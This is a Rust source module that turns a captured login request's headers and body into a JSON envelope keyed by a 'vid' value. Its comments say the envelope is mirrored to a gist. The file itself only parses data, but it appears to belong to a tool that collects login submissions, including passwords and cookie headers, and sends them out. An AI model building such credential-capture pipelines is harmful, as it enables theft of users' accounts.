//! Turns a captured login request into the envelope that gets mirrored to the gist.

use std::collections::BTreeMap;

use chrono::{DateTime, SecondsFormat, Utc};
use serde::{Deserialize, Serialize, Serializer};
use serde_json::Value;

use crate::error::{AppError, Result};

/// Request as handed over by the host. Never mutated.
#[derive(Clone, Debug, Default, Deserialize, Serialize)]
pub struct CapturedRequest {
    #[serde(default)]
    pub headers: BTreeMap<String, String>,
    #[serde(default)]
    pub body: Option<String>,
}

#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(untagged)]
pub enum ParsedBody {
    Form(BTreeMap<String, String>),
    Json(Value),
    Raw { raw: String },
}

#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ResultEnvelope {
    pub vid: String,
    pub request_body: ParsedBody,
    pub headers: BTreeMap<String, String>,
    #[serde(serialize_with = "iso_millis")]
    pub capture_time: DateTime<Utc>,
}

impl ResultEnvelope {
    /// Pretty JSON, the exact text stored in the gist file.
    pub fn to_payload(&self) -> Result<String> {
        Ok(serde_json::to_string_pretty(self)?)
    }
}

fn iso_millis<S: Serializer>(time: &DateTime<Utc>, serializer: S) -> std::result::Result<S::Ok, S::Error> {
    serializer.serialize_str(&time.to_rfc3339_opts(SecondsFormat::Millis, true))
}

pub fn extract(request: &CapturedRequest) -> ResultEnvelope {
    extract_at(request, Utc::now())
}

pub fn extract_at(request: &CapturedRequest, captured_at: DateTime<Utc>) -> ResultEnvelope {
    ResultEnvelope {
        vid: header_value(&request.headers, "vid").unwrap_or_default(),
        request_body: parse_body(request.body.as_deref()),
        headers: request.headers.clone(),
        capture_time: captured_at,
    }
}

fn header_value(headers: &BTreeMap<String, String>, name: &str) -> Option<String> {
    headers.get(name).cloned().or_else(|| {
        headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.clone())
    })
}

/// Best-effort body parsing: JSON object, then form fields, else the raw text.
pub fn parse_body(body: Option<&str>) -> ParsedBody {
    let body = match body {
        Some(body) if !body.is_empty() => body,
        _ => return ParsedBody::Form(BTreeMap::new()),
    };

    match try_parse_body(body) {
        Ok(parsed) => parsed,
        Err(e) => {
            tracing::debug!("Falling back to raw body: {}", e);
            ParsedBody::Raw { raw: body.to_string() }
        }
    }
}

fn try_parse_body(body: &str) -> Result<ParsedBody> {
    let text = decode_component(body)?;
    let trimmed = text.trim();

    if trimmed.starts_with('{') && trimmed.ends_with('}') {
        return Ok(ParsedBody::Json(serde_json::from_str(&text)?));
    }

    // Segments without a value are dropped on purpose.
    let mut fields = BTreeMap::new();
    for segment in text.split('&') {
        if let Some((key, value)) = segment.split_once('=') {
            if !key.is_empty() && !value.is_empty() {
                fields.insert(key.to_string(), decode_component(value)?);
            }
        }
    }
    Ok(ParsedBody::Form(fields))
}

/// Strict percent-decoding: malformed escapes and invalid UTF-8 are errors, `+` stays `+`.
fn decode_component(input: &str) -> Result<String> {
    let bytes = input.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' {
            let valid = bytes.len() > i + 2
                && bytes[i + 1].is_ascii_hexdigit()
                && bytes[i + 2].is_ascii_hexdigit();
            if !valid {
                return Err(AppError::ParseError(format!("malformed escape at byte {}", i)));
            }
            i += 3;
        } else {
            i += 1;
        }
    }

    urlencoding::decode(input)
        .map(|decoded| decoded.into_owned())
        .map_err(|e| AppError::ParseError(e.to_string()))
}
